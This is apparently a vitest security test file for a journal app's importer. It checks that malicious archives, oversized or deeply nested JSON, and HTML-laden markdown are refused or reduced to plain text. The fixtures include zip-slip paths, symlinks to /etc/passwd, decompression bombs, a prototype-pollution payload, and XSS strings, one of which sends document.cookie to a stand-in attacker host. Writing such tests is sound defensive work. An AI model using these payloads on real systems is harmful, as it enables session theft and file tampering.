/** Files made to do harm: each is refused with a code, soon, in little memory, and the vault is what it was. */
import { createHash } from 'node:crypto'
import { closeSync, ftruncateSync, mkdirSync, openSync, readFileSync, symlinkSync, writeFileSync, writeSync } from 'node:fs'
import { join } from 'node:path'
import { deflateRawSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { AppError } from '../../../shared/errors.ts'
import type { Reply } from '../../../shared/errors.ts'
import { plainText } from '../../../shared/rich-text.ts'
import { planOf } from '../../../electron/imports/plan.ts'
import { readSource } from '../../../electron/imports/sources.ts'
import { tarOf } from '../../helpers/tar.ts'
import { tempFolder } from '../../helpers/temp-folder.ts'
import { openTestBackend } from '../../helpers/test-backend.ts'
import { zipOf } from '../../helpers/zip.ts'

const text = (words: string) => new TextEncoder().encode(words)
const note = { name: 'a.md', bytes: text('A thought') }
const dayOne = (entries: string) => text(`{"metadata":{"version":"1.0"},"entries":[${entries}]}`)
const entry = (words: string) => JSON.stringify({ uuid: 'A', creationDate: '2021-03-03T11:48:50Z', text: words })
/** As much as asked for, without writing it: holes read as zeros. */
const sparse = (path: string, bytes: number, start = '') => {
  const file = openSync(path, 'w')
  writeSync(file, start)
  ftruncateSync(file, bytes)
  closeSync(file)
}
const million = 1_000_000

type Case = [what: string, codes: string[], make: (folder: string) => string]
const put = (name: string, bytes: () => Uint8Array | string) => (folder: string) => {
  const path = join(folder, name)
  writeFileSync(path, bytes())
  return path
}

const cases: Case[] = [
  ['a zip with a name that climbs out', ['import.unreadable'], put('a.zip', () => zipOf([note, { ...note, name: '../../etc/cron.d/a.md' }]))],
  ['a zip with an absolute name', ['import.unreadable'], put('a.zip', () => zipOf([{ ...note, name: '/tmp/a.md' }]))],
  ['a zip with a drive\'s name', ['import.unreadable'], put('a.zip', () => zipOf([{ ...note, name: 'C:\\a.md' }]))],
  ['a zip with a link', ['import.unreadable'], put('a.zip', () => zipOf([{ name: 'a.md', bytes: text('/etc/passwd'), mode: 0o120777 }]))],
  ['a zip that is 10,000 times as large inside', ['import.too-large'], put('a.zip', () => zipOf([{ name: 'Journal.json', bytes: dayOne(entry(' '.repeat(40 * million))) }]))],
  ['a zip that lies about its size', ['import.unreadable'], put('a.zip', () => zipOf([{ name: 'Journal.json', bytes: text('{}'), size: 2, packed: deflateRawSync(Buffer.alloc(30 * million, 'a')) }]))],
  ['a zip of many bombs', ['import.too-large'], put('a.zip', () => {
    const packed = deflateRawSync(Buffer.alloc(900_000, 'word '))
    return zipOf(Array.from({ length: 400 }, (_, index) => ({ name: `${index}.md`, bytes: Buffer.alloc(900_000, 'word '), packed })))
  })],
  ['a zip cut off in the middle', ['import.unreadable'], put('a.zip', () => zipOf([note]).slice(0, 60))],
  ['a zip in a zip', ['import.unreadable'], put('a.zip', () => zipOf([{ name: 'a.zip', bytes: zipOf([note]) }]))],
  ['a tar with a name that climbs out', ['import.unreadable'], put('a.jex', () => tarOf([{ ...note, name: '../a.md' }]))],
  ['a tar with an absolute name', ['import.unreadable'], put('a.jex', () => tarOf([{ ...note, name: '/etc/a.md' }]))],
  ['a tar with a symbolic link', ['import.unreadable'], put('a.jex', () => tarOf([note, { name: 'b.md', bytes: text(''), kind: '2', link: '/etc/passwd' }]))],
  ['a tar with a hard link', ['import.unreadable'], put('a.jex', () => tarOf([{ name: 'b.md', bytes: text(''), kind: '1', link: 'a.md' }]))],
  ['a tar with a device', ['import.unreadable'], put('a.jex', () => tarOf([{ name: 'b.md', bytes: text(''), kind: '3' }]))],
  ['a tar whose file is longer than the archive', ['import.unreadable'], put('a.jex', () => tarOf([{ ...note, size: 7_000_000_000 }]))],
  ['JSON of 200 MB', ['import.too-large'], (folder) => { sparse(join(folder, 'a.json'), 200 * million, '{"entries":['); return join(folder, 'a.json') }],
  ['JSON 100,000 deep', ['import.too-large', 'import.unreadable'], put('a.json', () => `{"entries":${'['.repeat(100_000)}${']'.repeat(100_000)}}`)],
  ['JSON with an entry 100,000 deep', ['import.too-large', 'import.unreadable'], put('a.json', () => dayOne(`{"creationDate":"2021-01-01T00:00:00Z","text":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}}`))],
  ['JSON that never ends', ['import.unreadable'], put('a.json', () => `{"entries":[${'{"a":1},'.repeat(100_000)}`)],
  ['JSON of a million empty entries', ['import.too-large', 'import.unreadable', 'import.empty'], put('a.json', () => `{"entries":[${'[],'.repeat(3 * million)}[]]}`)],
  ['JSON that would change what objects are', ['import.unreadable', 'import.empty'], put('a.json', () => '{"__proto__":{"entries":[]},"entries":{"__proto__":{"text":"x"}}}')],
  ['100 MB of text', ['import.too-large'], (folder) => { sparse(join(folder, 'a.txt'), 100 * million, 'words '); return join(folder, 'a.txt') }],
  ['a picture called a text', ['import.unreadable'], put('a.txt', () => Buffer.from(Array.from({ length: 5000 }, (_, index) => (index * 37) % 256)))],
  ['zeros', ['import.unreadable'], put('a.txt', () => new Uint8Array(100_000))],
  ['nothing', ['import.empty'], put('a.txt', () => '')],
  ['a folder without text', ['import.unreadable'], (folder) => { mkdirSync(join(folder, 'f')); writeFileSync(join(folder, 'f', 'a.png'), 'x'); return join(folder, 'f') }],
  ['a device', ['import.unreadable'], () => '/dev/zero'],
  ['a file that is not there', ['import.unreadable'], () => '/nowhere/at/all.txt'],
]

const all = process.env['MJ_FULL'] === '1'
/** Beside other tests on the same machine a second is longer. */
const slack = all ? 1 : 3

async function emptyVault() {
  const { test: open } = await openTestBackend()
  await open.call('space.create', { role: 'mentee', me: '', other: '' })
  const bytes = () => createHash('sha256').update(readFileSync(join(open.folder, 'journal.db'))).digest('hex')
  const look = async (path: string) => {
    open.host.paths.push(path)
    return open.reply('import.choose', { from: 'file' })
  }
  return { open, bytes, look }
}

/** The same reading without a thread around it: starting one takes most of the time of a case. */
function readHere(path: string): Promise<Reply<unknown>> {
  try {
    planOf(readSource({ path }, () => undefined), () => undefined)
    return Promise.resolve({ ok: true, value: null })
  } catch (error) {
    return Promise.resolve({ ok: false, code: error instanceof AppError ? error.code : 'internal' })
  }
}

test('hostile files are refused in less than two seconds and 256 MB, and the vault stays as it was', { timeout: 120_000 }, async () => {
  const { bytes, look } = await emptyVault()
  const before = bytes()
  await look('/nowhere')
  const told: string[] = []

  for (const [index, [what, codes, make]] of cases.entries()) {
    const path = make(tempFolder())
    const resting = process.memoryUsage().rss
    let peak = resting
    const watch = setInterval(() => { peak = Math.max(peak, process.memoryUsage().rss) }, 5)
    const start = performance.now()
    const reply = await (all || index % 7 === 4 ? look(path) : readHere(path))
    const taken = performance.now() - start
    clearInterval(watch)

    const code = reply.ok ? 'ok' : reply.code
    if (!codes.includes(code)) told.push(`${what}: ${code}`)
    if (taken > 2000 * slack) told.push(`${what}: ${Math.round(taken)} ms`)
    if (peak - resting > 256_000_000) told.push(`${what}: ${Math.round((peak - resting) / million)} MB`)
  }

  expect(told).toEqual([])
  expect(bytes()).toBe(before)
})

test('links in a folder are not followed', async () => {
  const { look } = await emptyVault()
  const folder = tempFolder()
  writeFileSync(join(folder, 'outside.md'), 'Not yours to read.')
  mkdirSync(join(folder, 'chosen'))
  writeFileSync(join(folder, 'chosen', 'inside.md'), 'Mine.')
  symlinkSync(join(folder, 'outside.md'), join(folder, 'chosen', 'link.md'))
  symlinkSync(folder, join(folder, 'chosen', 'round'))

  expect(await look(join(folder, 'chosen'))).toMatchObject({ ok: true, value: { count: 1 } })
})

test('HTML, scripts, addresses and remote pictures leave nothing but words', async () => {
  const { open, look } = await emptyVault()
  const path = put('a.md', () => [
    '# Before', '<script>fetch("https://evil.example/" + document.cookie)</script>', '<img src="https://evil.example/pixel.gif" onerror="alert(1)">',
    '[click](javascript:alert(1)) and ![](https://evil.example/a.png) and <a href="javascript:alert(2)">here</a>',
    '<svg onload="alert(3)"></svg><iframe src="//evil.example"></iframe><style>*{background:url(//evil.example)}</style>', 'After',
  ].join('\n\n'))(tempFolder())
  const reply = await look(path)
  if (!reply.ok) throw new Error(reply.code)
  const [space] = await open.call('space.list')
  const { id } = reply.value as { id: never }
  await open.call('import.add', { id, spaceId: space?.id ?? '', skipDuplicates: true })

  const [item] = await open.call('item.list', { spaceId: space?.id ?? '', kinds: ['entry'], limit: 5 })

  const stored = JSON.stringify(item)
  expect(stored).not.toMatch(/javascript:|evil\.example|<script|onerror|onload|fetch/)
  expect(item?.kind === 'entry' && plainText(item.body.text)).toBe('Before\nclick and  and here\nAfter')
})

test('ten thousand lists in one another, and entities that name entities, become words', async () => {
  const { look } = await emptyVault()
  const nested = `${'<ul><li>'.repeat(10_000)}the innermost word${'</li></ul>'.repeat(10_000)}`
  const joplin = `Deep\n\n${nested}\n\nid: ${'a'.repeat(32)}\nmarkup_language: 2\ntype_: 1`
  const deep = put('a.jex', () => tarOf([{ name: `${'a'.repeat(32)}.md`, bytes: text(joplin) }]))(tempFolder())
  const lists = put('b.md', () => Array.from({ length: 3000 }, (_, depth) => `${' '.repeat(depth * 2)}- line ${depth}`).join('\n'))(tempFolder())
  const entities = put('c.md', () => '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]> &c;&amp;lt;&#38;#60; end')(tempFolder())

  expect(await look(deep)).toMatchObject({ ok: true, value: { first: [{ words: 'Deep\nthe innermost word' }] } })
  expect(await look(lists)).toMatchObject({ ok: true, value: { count: 1, first: [{ title: 'line 0' }] } })
  expect(await look(entities)).toMatchObject({ ok: true, value: { first: [{ words: expect.stringContaining('&c;&lt;&#60; end') }] } })
})

test('a very long text is cut into entries that can be written in, and no word is lost', { timeout: 60_000 }, async () => {
  const { open, look } = await emptyVault()
  const words = Array.from({ length: 60_000 }, (_, index) => `word${index}`)
  const path = put('a.txt', () => `${words.slice(0, 30_000).join(' ')}\n${words.slice(30_000).join('\n')}`)(tempFolder())
  const reply = await look(path)
  if (!reply.ok) throw new Error(reply.code)
  const { id, count } = reply.value as { id: never; count: number }
  expect(count).toBeGreaterThan(1)
  const [space] = await open.call('space.list')
  await open.call('import.add', { id, spaceId: space?.id ?? '', skipDuplicates: true })

  const items = await open.call('item.list', { spaceId: space?.id ?? '', kinds: ['entry'], limit: 1000 })

  const back = items.toReversed().flatMap((item) => (item.kind === 'entry' ? plainText(item.body.text).split(/\s+/) : []))
  expect(back).toEqual(words)
})
